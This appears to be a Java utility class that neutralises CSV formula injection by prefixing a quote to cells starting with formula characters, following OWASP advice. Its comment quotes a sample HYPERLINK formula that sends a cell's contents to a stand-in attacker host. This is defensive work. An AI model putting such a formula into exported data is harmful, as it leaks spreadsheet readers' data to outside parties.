package dossier.io;

import java.util.regex.Pattern;

/**
 * CSV cells that a spreadsheet shows as text. Excel, LibreOffice and Google Sheets run a cell
 * that starts with "=", "+", "-" or "@" as a formula (and a tab or carriage return in front does not
 * stop them): a record titled {@code =HYPERLINK("https://evil.example/?"&A1)} would send a reader's
 * data away. Following OWASP's advice on CSV injection, such a cell gets a "'" in front; a number
 * ("-12.5", "+3") stays as it is. Quoting commas, quotes and line breaks is the CSV writer's work.
 */
public final class CsvCells {
    private static final Pattern NUMBER = Pattern.compile("[+-]?(\\d+\\.?\\d*|\\.\\d+)([eE][+-]?\\d+)?");

    private CsvCells() {}

    public static String inert(String cell) {
        if (cell.isEmpty() || "=+-@\t\r".indexOf(cell.charAt(0)) < 0 || NUMBER.matcher(cell).matches()) {
            return cell;
        }
        return "'" + cell;
    }
}
